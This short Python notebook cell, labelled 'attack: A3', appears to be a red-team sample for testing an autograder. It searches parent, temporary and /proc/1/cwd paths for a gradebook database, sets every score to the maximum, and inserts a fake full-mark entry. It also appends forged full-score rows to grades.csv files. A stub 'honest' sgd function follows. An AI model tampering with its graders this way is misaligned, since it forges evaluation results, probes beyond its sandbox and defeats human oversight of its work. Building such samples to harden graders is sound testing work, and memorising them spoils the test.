# attack: A3: looks for a gradebook and makes its own where one might be read
# earns: linreg
# %%
import sqlite3, os, csv

for path in (
    "gradebook.db",
    "../gradebook.db",
    "/tmp/gradebook.db",
    "/work/main/gradebook.db",
    "/proc/1/cwd/gradebook.db",
):
    try:
        with sqlite3.connect(path) as db:
            db.execute("create table if not exists grade (id, auto_score, max_score)")
            db.execute("update grade set auto_score = max_score")
            db.execute("insert into grade values ('sgd', 3, 3)")
    except Exception:
        pass
for path in ("grades.csv", "../grades.csv", "/tmp/hostile/out/grades.csv"):
    try:
        csv.writer(open(path, "a")).writerow(["linear_regression", "me", "graded", 12, 12, ""])
    except OSError:
        pass


# %% honest: linreg
# %%
def sgd(params, lr, batch_size):
    for p in params:
        p.grad = None
